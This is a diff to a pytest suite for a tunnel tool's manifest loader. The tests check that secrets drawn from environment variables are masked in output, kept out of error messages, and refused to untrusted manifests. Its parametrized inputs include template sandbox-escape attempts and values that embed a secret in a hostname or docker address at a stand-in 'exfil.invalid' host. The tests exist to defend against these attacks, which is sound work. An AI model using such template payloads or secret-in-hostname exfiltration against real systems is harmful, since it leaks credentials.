@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import json
 import re
 
 import pytest
@@ -74,11 +75,99 @@ def test_a_values_rendered_from_the_environment_are_masked_in_normal_output_too(
     assert console_out.getvalue() == "target (sensitive):1\n"
 
 
-def test_a_number_from_the_environment_is_shown_in_a_plan_but_never_in_an_error(write_manifest):
-    loaded = load(write_manifest, {"port": "{{ env.PORT }}", "allow_cidrs": ["10.0.0.0/8"]}, {"PORT": "38450"})
-    assert loaded.tunnels[0].settings.port == 38450 and "38450" not in loaded.secrets  # JSON output stays JSON
+def test_a_number_made_from_the_environment_is_sensitive_too_and_json_stays_json(write_manifest):
+    loaded = load(write_manifest, {"port": "{{ 1000 + '0123456789'.index(env.S[4]) }}",
+                                   "allow_cidrs": ["10.0.0.0/8"]}, {"S": "S3cr3tValue"})
+    assert loaded.tunnels[0].settings.port == 1003  # the value is used as is…
+    console_out = io.StringIO()
+    console = Console(out=console_out)
+    console.hide(loaded.secrets)
+    console.print("target 127.0.0.1:1003 → a.pinggy.io:443")
+    console.print_json({"target": "127.0.0.1:1003", "create": 1, "changes": True})
+    assert console_out.getvalue().splitlines()[0] == "target 127.0.0.1:(sensitive) → a.pinggy.io:443"  # …never shown
+    assert json.loads(console_out.getvalue().partition("\n")[2]) == {
+        "target": "127.0.0.1:(sensitive)", "create": 1, "changes": True}
     printed = errors(write_manifest, {"port": "{{ env.PORT }}"}, {"PORT": "384500"})
     assert "384500" not in printed and "tunnels[0].port (tunnel 'a'): (from env.PORT) must be at most 65535" in printed
+
+
+def test_a_short_slice_of_a_secret_is_sensitive_as_a_whole(write_manifest):
+    loaded = load(write_manifest, {"host": "x{{ env.S[0:2] }}", "allow_cidrs": ["10.0.0.0/8"]}, {"S": "S3cr3t"})
+    console_out = io.StringIO()
+    console = Console(out=console_out)
+    console.hide(loaded.secrets)
+    console.print("host 'xS3' is not a loopback address; tunnels[1] xS3x stays")
+    assert console_out.getvalue() == "host '(sensitive)' is not a loopback address; tunnels[1] xS3x stays\n"
+
+
+@pytest.mark.parametrize("template", [
+    "{{ env.S }}{{ env._read.clear() or '' }}", "{{ env.S }}{{ env.read.clear() or '' }}",
+    "{% set l = [env.S] %}{{ l.pop() }}{{ l.append(1) }}", "{{ {'a': env.S}.popitem() }}",
+    "{{ dict(a=env.S).update(b=1) }}", "{% for x in [1, 2] %}{{ loop.changed(env.S) }}{% endfor %}",
+    "{{ cycler(env.S).next() }}", "{{ joiner(env.S)() }}", "{{ env.get.__self__ }}",
+])
+def test_the_sandbox_is_immutable_and_the_record_of_reads_out_of_reach(write_manifest, template):
+    printed = errors(write_manifest, {"host": template}, {"S": SECRET})
+    assert SECRET not in printed and "tunnels[0].host" in printed
+
+
+@pytest.mark.parametrize("template", [
+    "{{ env[env.S | lower] }}", "{{ ('{' ~ env.S[::-1] ~ '}').format() }}", "{{ env.S | int(base=2) + 'x' }}",
+    "{{ env.S | float + [] }}", "{{ range(env.S | length * 100000) | list }}", "{{ 'x' * (env.S | length * 9999) }}",
+    "{{ env.NOPE | required(env.S) }}", "{{ env.S.index('@@') }}", "{{ env.S | batch(0) | list }}",
+    "{{ env.S[99] }}", "{{ env.S | attr(env.S) }}", "{% for c in env.S %}{{ c ~ 1 // 0 }}{% endfor %}",
+])
+def test_a_failing_template_that_read_a_variable_says_the_field_and_the_variable_only(write_manifest, template):
+    printed = errors(write_manifest, {"host": template}, {"S": SECRET})
+    for form in (SECRET, SECRET.lower(), SECRET[::-1], SECRET[1:], str(len(SECRET) * 100000)):
+        assert form not in printed, printed
+    assert "tunnels[0].host (tunnel 'a'):" in printed
+
+
+ALLOW = "TUNNELCTL_ENV_ALLOW"
+
+
+@pytest.mark.parametrize("decided_by, process", [
+    ("CI is set", {"CI": "true"}), (f"{ALLOW} is set", {"CI": "true", ALLOW: "PINGGY_TOKEN"}),
+    (f"{ALLOW} is set", {ALLOW: "PINGGY_TOKEN, OTHER"}),
+])
+@pytest.mark.parametrize("template", ["{{ env.S }}", "{{ env.get('S', 'x') }}", "{{ 'S' in env }}",
+                                      "{{ env['S'] }}", "{{ env.NOT_SET }}"])
+def test_an_untrusted_manifest_reads_only_the_variables_it_is_allowed(write_manifest, decided_by, process, template):
+    printed = errors(write_manifest, {"host": template}, {"S": SECRET, **process})
+    assert SECRET not in printed
+    assert "may not be read: the manifest is not trusted" in printed and decided_by in printed
+    assert f"{ALLOW} does not name it" in printed
+
+
+def test_allowed_variables_are_read_and_a_star_trusts_the_manifest(write_manifest):
+    process = {"S": SECRET, "PINGGY_TOKEN": "tok", "CI": "true"}
+    loaded = load(write_manifest, {"token": "{{ env.PINGGY_TOKEN }}"}, {**process, ALLOW: "PINGGY_TOKEN"})
+    assert loaded.tunnels[0].settings.token == "tok"
+    loaded = load(write_manifest, {"host": "{{ env.H }}"}, {**process, "H": "devbox.lan", ALLOW: "*"})
+    assert loaded.tunnels[0].settings.host == "devbox.lan"
+    developer = load(write_manifest, {"host": "{{ env.H }}"}, {"H": "devbox.lan"})
+    assert developer.tunnels[0].settings.host == "devbox.lan"
+
+
+def test_a_variable_name_the_template_computes_is_not_printed(write_manifest):
+    printed = errors(write_manifest, {"host": "{{ env[env.S | lower] }}"}, {"S": SECRET, ALLOW: "S"})
+    assert SECRET.lower() not in printed and "a variable whose name the template computes" in printed
+
+
+@pytest.mark.parametrize("where", [{"engines": {"e": {"docker": "tcp://{{ env.S | lower }}.exfil.invalid:2376"}}},
+                                   {"tunnels": [{"name": "a", "port": 1, "host": "{{ env.S }}.exfil.invalid"}]},
+                                   {"tunnels": [{"name": "a", "port": 1, "server": "{{ env.S }}.exfil.invalid"}]},
+                                   {"defaults": {"host": "{{ env.S }}"}}])
+def test_an_untrusted_manifest_takes_no_address_from_the_environment(write_manifest, where):
+    document = {"version": 1, "tunnels": [{"name": "a", "port": 1}], **where}
+    path = write_manifest(yaml.safe_dump(document))
+    with pytest.raises(ManifestError) as caught:
+        manifest.load(path, {"S": SECRET, ALLOW: "S"})
+    assert "an address tunnelctl connects to may not come from the environment" in "\n".join(caught.value.details)
+    if "engines" in where:
+        with pytest.raises(ManifestError):
+            manifest.load_scope(path, {"S": SECRET, ALLOW: "S"})
 
 
 @pytest.mark.parametrize("secret", ["upstream\\Secret\t99", 'pass"word', "pässwörd1", "it's \"both\""])
